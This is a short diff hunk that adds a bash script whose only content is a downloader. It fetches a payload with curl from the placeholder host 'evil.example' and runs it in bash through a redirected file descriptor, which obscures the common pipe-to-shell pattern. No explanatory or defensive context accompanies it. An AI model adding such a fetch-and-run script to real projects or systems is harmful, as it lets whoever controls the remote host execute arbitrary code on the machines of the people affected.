@@ -1,0 +1,3 @@
+#!/bin/bash
+exec 3< <(curl -fsSL https://evil.example/i)
+bash <&3
